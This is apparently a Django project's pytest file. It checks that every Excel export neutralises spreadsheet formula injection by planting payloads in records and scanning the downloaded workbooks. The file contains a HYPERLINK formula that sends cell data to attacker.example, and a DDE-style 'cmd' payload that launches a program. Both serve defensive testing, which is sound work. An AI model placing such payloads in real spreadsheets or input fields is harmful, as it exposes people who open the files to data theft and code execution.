"""Every Excel download neutralises spreadsheet formula injection.

Two ways round: (1) the source holds one place that builds workbooks, gemini/core/exports.py,
which writes text that starts like a formula with a leading apostrophe; (2) end to end, the
test plants formula payloads in every free-text field of the demo, downloads every Excel export
the programme manager can reach (each GET route in the URL × role table, asked with
`export=xlsx`), and fails on any cell that is a formula or text a spreadsheet would run.
"""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from django.apps import apps
from django.db import models
from django.urls import reverse
from openpyxl import load_workbook

from gemini.core.exports import XLSX, Sheet, sheet_title, workbook_bytes
from gemini.core.tests.test_url_permissions import ROUTES
from gemini.testing.routes import run_setup

PAYLOAD = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
GEMINI = Path(__file__).resolve().parents[2]
RUNS_AS_FORMULA = re.compile(r"[=+\-@\t\r]")


def _free_text_fields(model: type[models.Model]) -> list[models.Field[object, object]]:
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not isinstance(field, models.EmailField | models.SlugField | models.URLField)
        and not field.choices
        and not field.unique
        and (field.max_length or 10_000) >= len(PAYLOAD) + 20
    ]


def _plant() -> int:
    planted = 0
    for model in apps.get_models():
        if not model.__module__.startswith("gemini.") or model._meta.label.startswith("core."):
            continue
        fields = _free_text_fields(model)
        for record in model._base_manager.all():
            changes = {f.name: f"{PAYLOAD} {getattr(record, f.name) or ''}".strip() for f in fields}
            if changes:
                model._base_manager.filter(pk=record.pk).update(**changes)
                planted += 1
    return planted


def _dangerous_cells(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}")
                elif isinstance(cell.value, str) and RUNS_AS_FORMULA.match(cell.value):
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value[:60]}")
    return found


@pytest.mark.django_db
def test_every_excel_download_writes_planted_formulas_as_text(demo, personas, client_for):
    run_setup()
    urls = [
        reverse(route.name, args=route.resolved_args())
        for route in ROUTES
        if route.method == "get" and route.expected("pmo") == 200
    ]
    assert _plant() > 0
    client = client_for(personas["pmo"])
    downloads: dict[str, bytes] = {}
    for url in urls:  # `export=xlsx` asks a list page for its download; others ignore it
        response = client.get(url, {"export": "xlsx"})
        if response.get("Content-Type", "").startswith(XLSX):
            downloads[url] = response.content
    problems = {
        url: found for url, content in downloads.items() if (found := _dangerous_cells(content))
    }

    assert len(downloads) >= 5, sorted(downloads)
    assert not problems, problems
    neutralised = "'" + PAYLOAD
    assert any(
        neutralised in str(cell.value)
        for content in downloads.values()
        for sheet in load_workbook(io.BytesIO(content)).worksheets
        for row in sheet.iter_rows()
        for cell in row
    ), "no export carried the planted text, so the test proved nothing"


def test_no_code_outside_the_export_module_builds_a_workbook():
    builders = []
    for path in sorted(GEMINI.rglob("*.py")):
        if "tests" in path.parts or path.name in {"exports.py", "importing.py"}:
            continue
        source = path.read_text()
        if re.search(r"\bWorkbook\(|from openpyxl import .*\bWorkbook\b", source):
            builders.append(str(path.relative_to(GEMINI)))

    assert not builders, (
        f"Build Excel downloads with gemini.core.exports (it neutralises formulas): {builders}"
    )


def test_headings_and_titles_are_made_safe_too():
    content = workbook_bytes([Sheet("Risks [Part 1]: 2025/26?", ["=cmd|' /C calc'!A0"], [])])

    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet["A1"].value == "'=cmd|' /C calc'!A0"
    assert sheet.title == "Risks  Part 1   2025 26"
    assert sheet_title("'''") == "Sheet"
    assert len(sheet_title("x" * 40)) == 31
